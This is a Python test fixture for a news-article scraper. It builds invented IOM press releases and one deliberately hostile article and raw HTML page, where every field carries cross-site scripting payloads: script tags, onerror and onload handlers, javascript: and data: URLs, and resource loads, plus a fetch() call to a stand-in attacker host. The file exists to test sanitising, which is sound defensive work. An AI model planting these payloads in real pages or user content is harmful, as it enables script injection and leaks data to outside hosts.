"""Invented articles, and one in which every field attacks."""

from __future__ import annotations

from datetime import date

from iomscrape.records import Article, Block, Contact, Image, Link, Phone, Repair, Role


def article(slug: str, title: str, *texts: str | Block, **changes: object) -> Article:
    blocks = tuple(text if isinstance(text, Block) else Block(text=text) for text in texts)
    given: dict[str, object] = {
        "url": f"https://www.iom.int/news/{slug}",
        "title": title,
        "lang": "en",
        "kind": "press-release",
        "blocks": blocks,
        "design": "drupal9",
        "reader_version": "1",
        "confidence": 0.9,
    }
    return Article(**(given | changes))  # type: ignore[arg-type]


def hostile(evil: str) -> tuple[Article, bytes]:
    """An article in which every field attacks, and the raw page it came from. ``evil``: where it would call."""
    attack = (
        f"<script>document.title='ran';fetch('{evil}/s')</script><img src=x onerror=\"document.title='ran'\">"
    )
    record = article(
        "storm",
        f"Storm {attack}",
        f"{attack} The storm took the roof. {{{{ 7*7 }}}}",
        Block(text=f'"><svg onload="document.title=1">{attack}', role=Role.QUOTE),
        subtitle=attack,
        lang='en" onmouseover="document.title=1',
        kind='press"><script>document.title=1</script>',
        country='"><script>1</script>',
        published=date(2015, 5, 5),
        published_printed=attack,
        dateline=attack,
        region=attack,
        themes=(attack, "javascript:document.title='ran'"),
        images=(Image(url=f"{evil}/i.png", caption=attack, credit=attack),),
        links=(
            Link(url="javascript:document.title='ran'", text=attack),
            Link(url="data:text/html,<script>1</script>", text="data"),
        ),
        documents=(Link(url="\x01javascript:document.title='ran'", text="document"),),
        contacts=(
            Contact(
                name=attack,
                role=attack,
                office=attack,
                phones=(Phone(printed=attack, e164="javascript:document.title='ran'"),),
                emails=("a@iom.int?bcc=b@iom.int&body=x",),
                other=("javascript:document.title='ran'", attack),
            ),
        ),
        repairs=(Repair(kind=attack, before=attack, after=attack, where="contact"),),
        translations={'es"><script>1</script>': "javascript:document.title='ran'"},
        warnings=(attack,),
    )
    page = f"""<html onload="document.title='ran'"><head><base href="{evil}/base/"><title>Storm</title>
<meta http-equiv="refresh" content="0;url={evil}/refresh"><link rel="preconnect" href="{evil}">
<link rel="prefetch" href="{evil}/prefetch"><link rel="stylesheet" href="{evil}/a.css">
<style>@import "{evil}/b.css"; body {{ background: url({evil}/c.png) }}</style>
<script src="{evil}/d.js"></script><script>document.title = "ran"; top.document.title = "ran"</script></head>
<body background="{evil}/e.png"><h1>Storm takes the roof</h1><img src="{evil}/f.png" onerror="document.title = 'ran'">
<p style="background: url({evil}/g.png)">Text of the storm.</p><iframe src="{evil}/h"></iframe>
<video src="{evil}/i.mp4" autoplay poster="{evil}/j.png"></video><object data="{evil}/k"></object><embed src="{evil}/l">
<form action="{evil}/m"><input name="q" autofocus onfocus="document.title = 'ran'"><button>go</button></form>
<a href="javascript:document.title = 'ran'">code</a> <a id="out" href="{evil}/n" ping="{evil}/o">out</a>
<svg><script>document.title = "ran"</script></svg></body></html>"""
    return record, page.encode()
